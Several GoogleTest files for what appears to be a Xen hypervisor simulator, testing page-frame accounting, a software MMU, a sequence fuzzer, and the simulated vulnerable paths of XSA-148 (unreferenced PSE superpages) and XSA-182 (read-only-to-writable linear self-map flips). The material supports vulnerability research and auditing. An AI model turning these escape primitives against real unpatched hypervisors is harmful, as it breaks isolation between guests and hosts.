  EXPECT_EQ(pi.ref_count, 1u);
  EXPECT_EQ(pi.type, PageType::None);
  EXPECT_FALSE(pi.validated);
}

TEST(FrameTable, SequentialAllocationFromBumpRegion) {
  FrameTable ft{8};
  for (std::uint64_t i = 0; i < 8; ++i) {
    const auto mfn = ft.alloc(1);
    ASSERT_TRUE(mfn.has_value());
    EXPECT_EQ(mfn->raw(), i);
  }
  EXPECT_FALSE(ft.alloc(1).has_value());  // exhausted
}

TEST(FrameTable, FreeListIsFifoAfterExhaustion) {
  FrameTable ft{4};
  for (int i = 0; i < 4; ++i) (void)ft.alloc(1);
  ft.free(sim::Mfn{2});
  ft.free(sim::Mfn{0});
  EXPECT_EQ(ft.alloc(1)->raw(), 2u);  // first freed, first reused
  EXPECT_EQ(ft.alloc(1)->raw(), 0u);
}

TEST(FrameTable, DoubleFreeThrows) {
  FrameTable ft{2};
  const auto mfn = ft.alloc(1);
  ft.free(*mfn);
  EXPECT_THROW(ft.free(*mfn), std::logic_error);
}

TEST(FrameTable, FreeWithLiveReferencesThrows) {
  FrameTable ft{2};
  const auto mfn = ft.alloc(1);
  ft.info(*mfn).type_count = 1;
  EXPECT_THROW(ft.free(*mfn), std::logic_error);
  ft.info(*mfn).type_count = 0;
  ft.info(*mfn).ref_count = 2;
  EXPECT_THROW(ft.free(*mfn), std::logic_error);
}

TEST(FrameTable, ContiguousAllocation) {
  FrameTable ft{16};
  (void)ft.alloc(1);  // offset the bump pointer
  const auto start = ft.alloc_contiguous(2, 4);
  ASSERT_TRUE(start.has_value());
  EXPECT_EQ(start->raw(), 1u);
  for (std::uint64_t i = 0; i < 4; ++i) {
    EXPECT_EQ(ft.info(sim::Mfn{start->raw() + i}).owner, 2);
  }
  EXPECT_FALSE(ft.alloc_contiguous(2, 100).has_value());
  EXPECT_FALSE(ft.alloc_contiguous(2, 0).has_value());
}

TEST(FrameTable, FramesOfFiltersByOwner) {
  FrameTable ft{8};
  (void)ft.alloc(1);
  (void)ft.alloc(2);
  (void)ft.alloc(1);
  const auto of1 = ft.frames_of(1);
  ASSERT_EQ(of1.size(), 2u);
  EXPECT_EQ(of1[0].raw(), 0u);
  EXPECT_EQ(of1[1].raw(), 2u);
}

TEST(FrameTable, FreeFramesAccounting) {
  FrameTable ft{8};
  EXPECT_EQ(ft.free_frames(), 8u);
  const auto a = ft.alloc(1);
  EXPECT_EQ(ft.free_frames(), 7u);
  ft.free(*a);
  EXPECT_EQ(ft.free_frames(), 8u);
}

TEST(FrameTable, PageTypePredicates) {
  EXPECT_TRUE(is_pagetable_type(PageType::L1));
  EXPECT_TRUE(is_pagetable_type(PageType::L4));
  EXPECT_FALSE(is_pagetable_type(PageType::Writable));
  EXPECT_FALSE(is_pagetable_type(PageType::None));
  EXPECT_EQ(to_string(PageType::L2), "l2_pagetable");
  EXPECT_EQ(to_string(PageType::Writable), "writable");
}

TEST(FrameTable, InfoBoundsChecked) {
  FrameTable ft{2};
  EXPECT_THROW((void)ft.info(sim::Mfn{2}), std::out_of_range);
}

}  // namespace
}  // namespace ii::hv
