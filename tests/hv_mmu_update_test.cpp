// The direct-paging validation engine: mmu_update, mmuext_op,
// update_va_mapping, and the three per-version vulnerability sites.
#include <gtest/gtest.h>

#include "hv/audit.hpp"
#include "hv/hypervisor.hpp"

namespace ii::hv {
namespace {

constexpr std::uint64_t kPUW =
    sim::Pte::kPresent | sim::Pte::kUser | sim::Pte::kWritable;
constexpr std::uint64_t kPU = sim::Pte::kPresent | sim::Pte::kUser;

struct Fixture {
  explicit Fixture(XenVersion version)
      : mem{8192}, hv{mem, VersionPolicy::for_version(version)} {
    dom0 = hv.create_domain("dom0", true, 64);
    guest = hv.create_domain("guest01", false, 64);
    other = hv.create_domain("guest02", false, 64);
  }

  /// Machine address of L1 slot `i` of the guest's (single) L1 table.
  sim::Paddr l1_slot(std::uint64_t i) {
    const Domain& dom = hv.domain(guest);
    const sim::Mfn l1 = *dom.p2m(sim::Pfn{60});  // 64-page layout: L1 at 60
    return sim::mfn_to_paddr(l1) + i * 8;
  }
  sim::Paddr l4_slot(std::uint64_t i) {
    return sim::mfn_to_paddr(hv.domain(guest).cr3()) + i * 8;
  }
  sim::Mfn guest_mfn(std::uint64_t pfn) {
    return *hv.domain(guest).p2m(sim::Pfn{pfn});
  }
  long update(sim::Paddr slot, std::uint64_t val) {
    const MmuUpdate req{slot.raw(), val};
    return hv.hypercall_mmu_update(guest, {&req, 1});
  }

  sim::PhysicalMemory mem;
  Hypervisor hv;
  DomainId dom0{}, guest{}, other{};
};

TEST(MmuUpdate, RemapOwnDataPageSucceeds) {
  Fixture f{kXen48};
  // Point the slot of pfn 5 at pfn 6's frame, writable.
  const long rc =
      f.update(f.l1_slot(5), sim::Pte::make(f.guest_mfn(6), kPUW).raw());
  EXPECT_EQ(rc, kOk);
  // pfn 6's frame now carries two writable references.
  EXPECT_EQ(f.hv.frames().info(f.guest_mfn(6)).type_count, 2u);
  // The VA of pfn 5 reads pfn 6's content.
  std::array<std::uint8_t, 1> probe{0x5A};
  ASSERT_TRUE(f.hv
                  .guest_write(f.guest,
                               sim::Vaddr{kGuestKernelBase +
                                          5 * sim::kPageSize},
                               probe)
                  .has_value());
  EXPECT_EQ(f.mem.frame_bytes(f.guest_mfn(6))[0], 0x5A);
}

TEST(MmuUpdate, UnmapReleasesWritableType) {
  Fixture f{kXen48};
  EXPECT_EQ(f.hv.frames().info(f.guest_mfn(5)).type, PageType::Writable);
  EXPECT_EQ(f.update(f.l1_slot(5), 0), kOk);
  EXPECT_EQ(f.hv.frames().info(f.guest_mfn(5)).type, PageType::None);
  EXPECT_EQ(f.hv.frames().info(f.guest_mfn(5)).type_count, 0u);
}

TEST(MmuUpdate, ForeignFrameRejected) {
  Fixture f{kXen48};
  const sim::Mfn foreign = *f.hv.domain(f.other).p2m(sim::Pfn{5});
  EXPECT_EQ(f.update(f.l1_slot(5), sim::Pte::make(foreign, kPUW).raw()),
            kEPERM);
  EXPECT_EQ(f.update(f.l1_slot(5), sim::Pte::make(foreign, kPU).raw()),
            kEPERM);
}

TEST(MmuUpdate, XenFrameRejected) {
  Fixture f{kXen48};
  EXPECT_EQ(f.update(f.l1_slot(5), sim::Pte::make(sim::Mfn{1}, kPUW).raw()),
            kEPERM);  // frame 1 is the IDT
}

TEST(MmuUpdate, WritableMappingOfPageTableRejected) {
  Fixture f{kXen48};
  const sim::Mfn own_l1 = f.guest_mfn(60);
  EXPECT_EQ(f.update(f.l1_slot(5), sim::Pte::make(own_l1, kPUW).raw()),
            kEBUSY);
  // Read-only mapping of the same table is legitimate.
  EXPECT_EQ(f.update(f.l1_slot(5), sim::Pte::make(own_l1, kPU).raw()), kOk);
}

TEST(MmuUpdate, ReservedBitsRejected) {
  Fixture f{kXen48};
  EXPECT_EQ(f.update(f.l1_slot(5),
                     sim::Pte::make(f.guest_mfn(6), kPUW).raw() | 1ULL << 9),
            kEINVAL);
}

TEST(MmuUpdate, OutOfRamFrameRejected) {
  Fixture f{kXen48};
  EXPECT_EQ(f.update(f.l1_slot(5),
                     sim::Pte::make(sim::Mfn{1 << 20}, kPUW).raw()),
            kEINVAL);
}

TEST(MmuUpdate, MisalignedOrForeignPointerRejected) {
  Fixture f{kXen48};
  EXPECT_EQ(f.update(sim::Paddr{f.l1_slot(5).raw() + 4}, 0), kEINVAL);
  // A slot inside another domain's table: not ours -> -EPERM.
  const sim::Paddr foreign_slot =
      sim::mfn_to_paddr(f.hv.domain(f.other).cr3());
  EXPECT_EQ(f.update(foreign_slot, 0), kEPERM);
  // A plain data frame is not a page table.
  EXPECT_EQ(f.update(sim::mfn_to_paddr(f.guest_mfn(5)), 0), kEINVAL);
}

TEST(MmuUpdate, BatchStopsAtFirstError) {
  Fixture f{kXen48};
  const MmuUpdate reqs[] = {
      {f.l1_slot(5).raw(), 0},
      {f.l1_slot(5).raw() + 4, 0},  // misaligned
      {f.l1_slot(6).raw(), 0},
  };
  unsigned done = 0;
  EXPECT_EQ(f.hv.hypercall_mmu_update(f.guest, reqs, &done), kEINVAL);
  EXPECT_EQ(done, 1u);
  // Third request untouched: pfn 6 still mapped.
  EXPECT_EQ(f.hv.frames().info(f.guest_mfn(6)).type, PageType::Writable);
}

TEST(MmuUpdate, MachphysUpdateAccepted) {
  Fixture f{kXen48};
  const MmuUpdate req{f.l1_slot(5).raw() | kMmuMachphysUpdate, 0};
  EXPECT_EQ(f.hv.hypercall_mmu_update(f.guest, {&req, 1}), kOk);
}

// ----------------------------------------------------------- XSA-148 site

TEST(Xsa148Site, PseAcceptedOnlyOn46) {
  for (const auto& [version, expected] :
       {std::pair{kXen46, kOk}, {kXen48, kEINVAL}, {kXen413, kEINVAL}}) {
    Fixture f{version};
    const sim::Mfn l2 = f.guest_mfn(61);
    const sim::Pte pse = sim::Pte::make(sim::Mfn{0},
                                        kPUW | sim::Pte::kPageSize);
    const long rc = f.update(sim::mfn_to_paddr(l2) + 9 * 8, pse.raw());
    EXPECT_EQ(rc, expected) << version.to_string();
    if (rc == kOk) {
      // The vulnerable path took no references and the audit flags the
      // resulting guest-writable window over page tables.
      EXPECT_TRUE(audit_system(f.hv).has(
          FindingKind::GuestWritablePageTable));
    }
  }
}

TEST(Xsa148Site, OneGbPseAlwaysRejected) {
  Fixture f{kXen46};
  const sim::Mfn l3 = f.guest_mfn(62);
  EXPECT_EQ(f.update(sim::mfn_to_paddr(l3) + 8,
                     sim::Pte::make(sim::Mfn{0}, kPUW | sim::Pte::kPageSize)
                         .raw()),
            kEINVAL);
}

// ----------------------------------------------------------- XSA-182 site

TEST(Xsa182Site, ReadOnlySelfMapAllowedPre49) {
  for (const auto version : {kXen46, kXen48}) {
    Fixture f{version};
    const sim::Mfn l4 = f.hv.domain(f.guest).cr3();
    EXPECT_EQ(f.update(f.l4_slot(kLinearPtSlot),
                       sim::Pte::make(l4, kPU).raw()),
              kOk)
        << version.to_string();
  }
}

TEST(Xsa182Site, SelfMapRejectedOn413) {
  Fixture f{kXen413};
  const sim::Mfn l4 = f.hv.domain(f.guest).cr3();
  EXPECT_EQ(f.update(f.l4_slot(kLinearPtSlot),
                     sim::Pte::make(l4, kPU).raw()),
            kEPERM);
}

TEST(Xsa182Site, RwFlipOnlyOn46) {
  for (const auto& [version, expected] :
       {std::pair{kXen46, kOk}, {kXen48, kEPERM}}) {
    Fixture f{version};
    const sim::Mfn l4 = f.hv.domain(f.guest).cr3();
    ASSERT_EQ(f.update(f.l4_slot(kLinearPtSlot),
                       sim::Pte::make(l4, kPU).raw()),
              kOk);
    EXPECT_EQ(f.update(f.l4_slot(kLinearPtSlot),
                       sim::Pte::make(l4, kPUW).raw()),
              expected)
        << version.to_string();
  }
}

TEST(Xsa182Site, DirectWritableSelfMapRefusedEvenOn46) {
  // Without a pre-existing RO entry the fast path does not apply.
  Fixture f{kXen46};
  const sim::Mfn l4 = f.hv.domain(f.guest).cr3();
  EXPECT_EQ(f.update(f.l4_slot(kLinearPtSlot),
                     sim::Pte::make(l4, kPUW).raw()),
            kEPERM);
}

TEST(Xsa182Site, OtherReservedSlotsAlwaysRefused) {
  for (const auto version : {kXen46, kXen48, kXen413}) {
    Fixture f{version};
    const sim::Mfn l4 = f.hv.domain(f.guest).cr3();
    EXPECT_EQ(f.update(f.l4_slot(257), sim::Pte::make(l4, kPU).raw()),
              kEPERM)
        << version.to_string();
    EXPECT_EQ(f.update(f.l4_slot(262), 0), kEPERM) << version.to_string();
  }
}

TEST(Xsa182Site, ClearingLinearSlotAllowedPre49) {
  Fixture f{kXen46};
  const sim::Mfn l4 = f.hv.domain(f.guest).cr3();
  ASSERT_EQ(f.update(f.l4_slot(kLinearPtSlot),
                     sim::Pte::make(l4, kPU).raw()),
            kOk);
  EXPECT_EQ(f.update(f.l4_slot(kLinearPtSlot), 0), kOk);
}

// ------------------------------------------------------------- mmuext_op

TEST(MmuExt, PinAndUnpinFreshL1) {
  Fixture f{kXen48};
  // Build a fresh L1 in an own data page: first unmap it so it is free of
  // writable references, then fill and pin.
  ASSERT_EQ(f.update(f.l1_slot(10), 0), kOk);
  const sim::Mfn fresh = f.guest_mfn(10);
  // It must be empty (zeroed at domain build; unmapping left it intact).
  MmuExtOp pin{MmuExtCmd::PinL1Table, fresh};
  EXPECT_EQ(f.hv.hypercall_mmuext_op(f.guest, pin), kOk);
  EXPECT_EQ(f.hv.frames().info(fresh).type, PageType::L1);
  MmuExtOp unpin{MmuExtCmd::UnpinTable, fresh};
  EXPECT_EQ(f.hv.hypercall_mmuext_op(f.guest, unpin), kOk);
  EXPECT_EQ(f.hv.frames().info(fresh).type, PageType::None);
  // Unpinning something not pinned fails.
  EXPECT_EQ(f.hv.hypercall_mmuext_op(f.guest, unpin), kEINVAL);
}

TEST(MmuExt, PinWritablePageRefused) {
  Fixture f{kXen48};
  MmuExtOp pin{MmuExtCmd::PinL1Table, f.guest_mfn(5)};
  EXPECT_EQ(f.hv.hypercall_mmuext_op(f.guest, pin), kEBUSY);
}

TEST(MmuExt, NewBaseptrRequiresOwnValidatedL4) {
  Fixture f{kXen48};
  MmuExtOp to_data{MmuExtCmd::NewBaseptr, f.guest_mfn(5)};
  EXPECT_EQ(f.hv.hypercall_mmuext_op(f.guest, to_data), kEINVAL);
  MmuExtOp to_foreign{MmuExtCmd::NewBaseptr, f.hv.domain(f.other).cr3()};
  EXPECT_EQ(f.hv.hypercall_mmuext_op(f.guest, to_foreign), kEINVAL);
  MmuExtOp to_own{MmuExtCmd::NewBaseptr, f.hv.domain(f.guest).cr3()};
  EXPECT_EQ(f.hv.hypercall_mmuext_op(f.guest, to_own), kOk);
}

TEST(MmuExt, TlbOpsAreAcceptedNoOps) {
  Fixture f{kXen48};
  EXPECT_EQ(f.hv.hypercall_mmuext_op(f.guest,
                                     {MmuExtCmd::TlbFlushLocal, sim::Mfn{}}),
            kOk);
  EXPECT_EQ(f.hv.hypercall_mmuext_op(f.guest,
                                     {MmuExtCmd::InvlpgLocal, sim::Mfn{}}),
            kOk);
}

// ------------------------------------------------------ update_va_mapping

TEST(UpdateVaMapping, UpdatesLeafSlot) {
  Fixture f{kXen48};
  const sim::Vaddr va{kGuestKernelBase + 5 * sim::kPageSize};
  EXPECT_EQ(f.hv.hypercall_update_va_mapping(
                f.guest, va, sim::Pte::make(f.guest_mfn(6), kPUW)),
            kOk);
  const auto walk = f.hv.guest_walk(f.guest, va);
  ASSERT_TRUE(walk.has_value());
  EXPECT_EQ(sim::paddr_to_mfn(walk->physical), f.guest_mfn(6));
}

TEST(UpdateVaMapping, UnmappedVaFaults) {
  Fixture f{kXen48};
  EXPECT_EQ(f.hv.hypercall_update_va_mapping(
                f.guest, sim::Vaddr{0x400000},
                sim::Pte::make(f.guest_mfn(6), kPUW)),
            kEFAULT);
}

}  // namespace
}  // namespace ii::hv
