// Unit tests for the software MMU: walks, faults, permission accumulation,
// superpages and self-referencing tables.
#include <gtest/gtest.h>

#include "sim/mmu.hpp"

namespace ii::sim {
namespace {

constexpr std::uint64_t kPUW = Pte::kPresent | Pte::kUser | Pte::kWritable;

/// Hand-built 4-level hierarchy: frames 0..3 are L4..L1, frame 4 is data.
class MmuFixture : public ::testing::Test {
 protected:
  MmuFixture() : mem{16}, mmu{mem} {
    mem.write_slot(l4, 0, Pte::make(l3, kPUW).raw());
    mem.write_slot(l3, 0, Pte::make(l2, kPUW).raw());
    mem.write_slot(l2, 0, Pte::make(l1, kPUW).raw());
    mem.write_slot(l1, 0, Pte::make(data, kPUW).raw());
  }

  PhysicalMemory mem;
  Mmu mmu;
  Mfn l4{0}, l3{1}, l2{2}, l1{3}, data{4};
};

TEST_F(MmuFixture, WalksToLeaf) {
  const auto walk = mmu.walk(l4, Vaddr{0x123});
  ASSERT_TRUE(walk.has_value());
  EXPECT_EQ(walk->physical.raw(), data.raw() * kPageSize + 0x123);
  EXPECT_EQ(walk->page_bytes, kPageSize);
  EXPECT_TRUE(walk->writable);
  EXPECT_TRUE(walk->user);
  ASSERT_EQ(walk->steps.size(), 4u);
  EXPECT_EQ(walk->steps.front().level, PtLevel::L4);
  EXPECT_EQ(walk->steps.back().level, PtLevel::L1);
  EXPECT_EQ(walk->steps.back().table, l1);
}

TEST_F(MmuFixture, NotPresentFaultReportsLevel) {
  const auto walk = mmu.walk(l4, compose_vaddr(0, 1, 0, 0));
  ASSERT_FALSE(walk.has_value());
  EXPECT_EQ(walk.error().reason, FaultReason::NotPresent);
  EXPECT_EQ(walk.error().level, PtLevel::L3);
}

TEST_F(MmuFixture, NonCanonicalFault) {
  const auto walk = mmu.walk(l4, Vaddr{0x0000900000000000ULL});
  ASSERT_FALSE(walk.has_value());
  EXPECT_EQ(walk.error().reason, FaultReason::NonCanonical);
  EXPECT_FALSE(walk.error().level.has_value());
}

TEST_F(MmuFixture, ReservedBitFault) {
  mem.write_slot(l1, 0, Pte::make(data, kPUW).raw() | (1ULL << 9));
  const auto walk = mmu.walk(l4, Vaddr{0});
  ASSERT_FALSE(walk.has_value());
  EXPECT_EQ(walk.error().reason, FaultReason::ReservedBit);
}

TEST_F(MmuFixture, BadFrameFault) {
  mem.write_slot(l1, 0, Pte::make(Mfn{999}, kPUW).raw());
  const auto walk = mmu.walk(l4, Vaddr{0});
  ASSERT_FALSE(walk.has_value());
  EXPECT_EQ(walk.error().reason, FaultReason::BadFrame);
}

TEST_F(MmuFixture, PermissionAccumulatesAcrossLevels) {
  // Clearing RW at L3 makes the whole path read-only even though the leaf
  // says writable.
  mem.write_slot(l3, 0, Pte::make(l2, Pte::kPresent | Pte::kUser).raw());
  const auto walk = mmu.walk(l4, Vaddr{0});
  ASSERT_TRUE(walk.has_value());
  EXPECT_FALSE(walk->writable);
  EXPECT_TRUE(walk->user);

  const auto write = mmu.translate(l4, Vaddr{0}, AccessType::Write,
                                   AccessMode::User);
  ASSERT_FALSE(write.has_value());
  EXPECT_EQ(write.error().reason, FaultReason::WriteProtected);
  EXPECT_EQ(write.error().access, AccessType::Write);
}

TEST_F(MmuFixture, UserBitAccumulates) {
  mem.write_slot(l2, 0, Pte::make(l1, Pte::kPresent | Pte::kWritable).raw());
  const auto user = mmu.translate(l4, Vaddr{0}, AccessType::Read,
                                  AccessMode::User);
  ASSERT_FALSE(user.has_value());
  EXPECT_EQ(user.error().reason, FaultReason::UserProtected);
  // Supervisor ignores US.
  const auto sup = mmu.translate(l4, Vaddr{0}, AccessType::Read,
                                 AccessMode::Supervisor);
  EXPECT_TRUE(sup.has_value());
}

TEST_F(MmuFixture, SupervisorStillHonoursReadOnly) {
  mem.write_slot(l1, 0, Pte::make(data, Pte::kPresent | Pte::kUser).raw());
  const auto sup = mmu.translate(l4, Vaddr{0}, AccessType::Write,
                                 AccessMode::Supervisor);
  ASSERT_FALSE(sup.has_value());
  EXPECT_EQ(sup.error().reason, FaultReason::WriteProtected);
}

TEST_F(MmuFixture, NoExecuteBlocksFetch) {
  mem.write_slot(l1, 0, Pte::make(data, kPUW | Pte::kNoExecute).raw());
  const auto fetch = mmu.translate(l4, Vaddr{0}, AccessType::Execute,
                                   AccessMode::User);
  ASSERT_FALSE(fetch.has_value());
  EXPECT_EQ(fetch.error().reason, FaultReason::NoExecute);
  EXPECT_TRUE(mmu.translate(l4, Vaddr{0}, AccessType::Read,
                            AccessMode::User)
                  .has_value());
}

TEST_F(MmuFixture, TwoMbSuperpage) {
  mem.write_slot(l2, 1, Pte::make(Mfn{0}, kPUW | Pte::kPageSize).raw());
  const Vaddr va = compose_vaddr(0, 0, 1, 7, 0x10);  // within the 2MiB leaf
  const auto walk = mmu.walk(l4, va);
  ASSERT_TRUE(walk.has_value());
  EXPECT_EQ(walk->page_bytes, kPageSize * kPtEntries);
  EXPECT_EQ(walk->physical.raw(), 7 * kPageSize + 0x10);
  EXPECT_EQ(walk->steps.size(), 3u);  // stops at L2
}

TEST_F(MmuFixture, OneGbSuperpageAtL3) {
  PhysicalMemory big{kPtEntries * kPtEntries + 8};
  Mmu bmmu{big};
  const Mfn bl4{0}, bl3{1};
  big.write_slot(bl4, 0, Pte::make(bl3, kPUW).raw());
  big.write_slot(bl3, 0, Pte::make(Mfn{0}, kPUW | Pte::kPageSize).raw());
  const auto walk = bmmu.walk(bl4, compose_vaddr(0, 0, 3, 5, 9));
  ASSERT_TRUE(walk.has_value());
  EXPECT_EQ(walk->page_bytes, kPageSize * kPtEntries * kPtEntries);
  EXPECT_EQ(walk->physical.raw(),
            (3 * kPtEntries + 5) * kPageSize + 9);
}

TEST_F(MmuFixture, PseAtL4IsRejected) {
  mem.write_slot(l4, 1, Pte::make(data, kPUW | Pte::kPageSize).raw());
  const auto walk = mmu.walk(l4, compose_vaddr(1, 0, 0, 0));
  ASSERT_FALSE(walk.has_value());
  EXPECT_EQ(walk.error().reason, FaultReason::ReservedBit);
}

TEST_F(MmuFixture, SelfReferencingL4ResolvesToTableItself) {
  // The classic recursive mapping the XSA-182 use case relies on: an L4
  // slot pointing at the L4 itself turns the walk into a data view of the
  // page-table hierarchy.
  mem.write_slot(l4, 5, Pte::make(l4, kPUW).raw());
  const Vaddr va = compose_vaddr(5, 5, 5, 5, 42 * 8);
  const auto walk = mmu.walk(l4, va);
  ASSERT_TRUE(walk.has_value());
  EXPECT_EQ(paddr_to_mfn(walk->physical), l4);
  EXPECT_EQ(page_offset(walk->physical), 42 * 8);
}

TEST_F(MmuFixture, FaultDescribesItself) {
  const auto walk = mmu.walk(l4, compose_vaddr(0, 1, 0, 0));
  ASSERT_FALSE(walk.has_value());
  const std::string desc = walk.error().describe();
  EXPECT_NE(desc.find("page fault"), std::string::npos);
  EXPECT_NE(desc.find("not present"), std::string::npos);
  EXPECT_NE(desc.find("L3"), std::string::npos);
}

}  // namespace
}  // namespace ii::sim
