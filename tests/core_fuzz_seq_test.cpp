// The coverage-guided hypercall-sequence fuzzer (DESIGN.md §17): trace
// serialization, replay byte-identity, the delta-debugging minimizer, the
// guided-vs-blind coverage claim, and the draw helpers' exact streams.
#include <gtest/gtest.h>

#include <cstdint>
#include <filesystem>
#include <random>
#include <set>
#include <string>
#include <vector>

#include "core/fuzz.hpp"

namespace ii::core {
namespace {

SeqFuzzConfig small_config(std::uint64_t seed, unsigned iterations) {
  SeqFuzzConfig config;
  config.version = hv::kXen46;
  config.seed = seed;
  config.iterations = iterations;
  config.platform.machine_frames = 8192;
  config.platform.dom0_pages = 128;
  config.platform.guest_pages = 64;
  return config;
}

/// One op of every kind, operands chosen to exercise every serialized field.
std::vector<FuzzOp> all_kinds_trace() {
  std::vector<FuzzOp> ops;
  for (std::size_t k = 0; k < kFuzzOpKindCount; ++k) {
    FuzzOp op;
    op.kind = static_cast<FuzzOp::Kind>(k);
    op.level = static_cast<std::uint8_t>(1 + k % 4);
    op.addr = 0x1000ULL * (k + 1) + (1ULL << 40);
    op.value = ~(0x1111ULL * k);
    op.mfn = 100 + k;
    op.pfn = 200 + k;
    op.out = 0xFFFF880000000000ULL + 0x1000 * k;
    op.gref = static_cast<std::uint32_t>(k);
    op.version = static_cast<std::uint32_t>(1 + k % 2);
    ops.push_back(op);
  }
  return ops;
}

// ------------------------------------------------------------ draw helpers

TEST(DrawBelow, AlwaysBelowBound) {
  std::mt19937_64 rng{7};
  for (const std::uint64_t bound :
       {std::uint64_t{1}, std::uint64_t{2}, std::uint64_t{3},
        std::uint64_t{1000}, std::uint64_t{1} << 33,
        ~std::uint64_t{0}}) {
    for (int i = 0; i < 200; ++i) {
      EXPECT_LT(draw_below(rng, bound), bound) << "bound " << bound;
    }
  }
  EXPECT_EQ(draw_below(rng, 0), 0u);
}

TEST(DrawBelow, ExceedsThirtyTwoBits) {
  // Regression: the old `rng() % bound` drew from std::mt19937 (32-bit
  // words), so bounds over 4 GiB never produced a draw above 4 GiB and
  // machine addresses past it were never probed.
  std::mt19937_64 rng{1};
  const std::uint64_t bound = std::uint64_t{1} << 40;
  bool above_32 = false;
  for (int i = 0; i < 100 && !above_32; ++i) {
    above_32 = draw_below(rng, bound) > (std::uint64_t{1} << 32);
  }
  EXPECT_TRUE(above_32);
}

TEST(DrawBelow, FixedSeedStreamIsLocked) {
  // The corpus format and every recorded trace depend on this exact
  // stream; a draw_below change invalidates all recorded corpora, so it
  // must be deliberate and show up here.
  std::mt19937_64 rng{12345};
  const std::uint64_t expect[] = {346ULL, 521ULL, 285ULL,
                                  954ULL, 996ULL, 45ULL};
  for (const std::uint64_t e : expect) {
    EXPECT_EQ(draw_below(rng, 1000), e);
  }
  std::mt19937_64 mixed{12345};
  EXPECT_EQ(draw_below(mixed, 10ULL), 6ULL);
  EXPECT_EQ(draw_below(mixed, 8589934592ULL), 553599097ULL);
  EXPECT_EQ(draw_below(mixed, 7ULL), 0ULL);
  EXPECT_EQ(draw_below(mixed, ~std::uint64_t{0}), 10325298820568433954ULL);
  EXPECT_EQ(draw_below(mixed, 3ULL), 2ULL);
}

TEST(RngFor, IterationAndHighSeedBitsDecorrelate) {
  EXPECT_EQ(rng_for(42, 0)(), 15544500182996699136ULL);
  EXPECT_EQ(rng_for(42, 1)(), 11496161038444431290ULL);
  EXPECT_EQ(rng_for(42 | (1ULL << 32), 0)(), 6548432123641621431ULL);
}

// ---------------------------------------------------------- serialization

TEST(TraceSerialization, RoundTripsEveryKindAndVersion) {
  CorpusEntry entry;
  entry.ops = all_kinds_trace();
  entry.outcome = FuzzOutcome::IsolationViolation;
  entry.classes = {analysis::ErroneousStateClass::Xsa182WritableSelfMap,
                   analysis::ErroneousStateClass::Other};
  entry.state_hash = 0xDEADBEEFCAFE1234ULL;

  for (const hv::XenVersion version : {hv::kXen46, hv::kXen48, hv::kXen413}) {
    const std::vector<std::uint8_t> bytes = serialize_trace(entry, version);
    hv::XenVersion got_version{};
    const auto got = deserialize_trace(bytes, &got_version);
    ASSERT_TRUE(got.has_value());
    EXPECT_EQ(*got, entry);
    EXPECT_EQ(got_version.major, version.major);
    EXPECT_EQ(got_version.minor, version.minor);
  }
}

TEST(TraceSerialization, RejectsCorruption) {
  CorpusEntry entry;
  entry.ops = all_kinds_trace();
  const std::vector<std::uint8_t> bytes = serialize_trace(entry, hv::kXen46);

  EXPECT_FALSE(deserialize_trace({}).has_value());
  // Every truncation point must be rejected, never read out of bounds.
  for (std::size_t n = 0; n < bytes.size(); ++n) {
    EXPECT_FALSE(
        deserialize_trace(std::span{bytes.data(), n}).has_value())
        << "accepted a " << n << "-byte prefix";
  }
  std::vector<std::uint8_t> bad_magic = bytes;
  bad_magic[0] ^= 0xFF;
  EXPECT_FALSE(deserialize_trace(bad_magic).has_value());
  std::vector<std::uint8_t> trailing = bytes;
  trailing.push_back(0);
  EXPECT_FALSE(deserialize_trace(trailing).has_value());
}

TEST(TraceSerialization, FileRoundTrip) {
  const std::string path =
      (std::filesystem::temp_directory_path() / "ii_fuzz_seq_rt.trace")
          .string();
  CorpusEntry entry;
  entry.ops = all_kinds_trace();
  entry.outcome = FuzzOutcome::DetectedByAudit;
  entry.state_hash = 42;
  ASSERT_TRUE(store_trace_file(path, entry, hv::kXen48));
  hv::XenVersion version{};
  const auto got = load_trace_file(path, &version);
  std::filesystem::remove(path);
  ASSERT_TRUE(got.has_value());
  EXPECT_EQ(*got, entry);
  EXPECT_EQ(version.major, 4);
  EXPECT_EQ(version.minor, 8);
}

// ------------------------------------------------------------- the fuzzer

TEST(SequenceFuzzer, DeterministicStatsAndOutcomeAccounting) {
  const SeqFuzzConfig config = small_config(7, 40);
  const SeqFuzzStats a = run_sequence_fuzzer(config);
  const SeqFuzzStats b = run_sequence_fuzzer(config);
  EXPECT_EQ(a.render(), b.render());

  unsigned total = 0;
  for (const auto& [outcome, count] : a.outcomes) total += count;
  EXPECT_EQ(total, 40u);
  EXPECT_GT(a.coverage_points, 0u);
  EXPECT_LE(a.coverage_points, CoverageMap::total_points());
}

TEST(SequenceFuzzer, CorpusReplaysByteIdentically) {
  // Every persisted trace must reproduce its recorded outcome, classes
  // and post-state hash on a fresh platform — the CI replay gate.
  const auto dir = std::filesystem::temp_directory_path() / "ii_fuzz_seq_c";
  std::filesystem::remove_all(dir);
  SeqFuzzConfig config = small_config(7, 60);
  config.corpus_dir = dir.string();
  const SeqFuzzStats stats = run_sequence_fuzzer(config);
  EXPECT_GT(stats.corpus_entries, 0u);

  std::size_t checked = 0;
  for (const auto& file : std::filesystem::directory_iterator(dir)) {
    hv::XenVersion version{};
    const auto entry = load_trace_file(file.path().string(), &version);
    ASSERT_TRUE(entry.has_value()) << file.path();
    SeqFuzzConfig replay = config;
    replay.version = version;
    const TraceResult result = replay_trace(replay, entry->ops);
    EXPECT_EQ(result.outcome, entry->outcome) << file.path();
    EXPECT_EQ(result.classes, entry->classes) << file.path();
    EXPECT_EQ(result.state_hash, entry->state_hash) << file.path();
    ++checked;
  }
  std::filesystem::remove_all(dir);
  EXPECT_GT(checked, 0u);
}

TEST(SequenceFuzzer, MinimizerPreservesOutcomeAndShrinks) {
  // Property over every survivor of a real run: the minimized trace is no
  // longer than the raw one and reproduces the same classified result.
  SeqFuzzConfig config = small_config(7, 60);
  const SeqFuzzStats stats = run_sequence_fuzzer(config);
  ASSERT_FALSE(stats.survivors.empty());
  bool some_shrunk = false;
  for (const Survivor& s : stats.survivors) {
    EXPECT_LE(s.entry.ops.size(), s.raw_ops);
    some_shrunk = some_shrunk || s.entry.ops.size() < s.raw_ops;
    const TraceResult result = replay_trace(config, s.entry.ops);
    EXPECT_EQ(result.outcome, s.entry.outcome);
    EXPECT_EQ(result.classes, s.entry.classes);
    EXPECT_EQ(result.state_hash, s.entry.state_hash);
  }
  EXPECT_TRUE(some_shrunk);
  EXPECT_GT(stats.minimizer_execs, 0u);
}

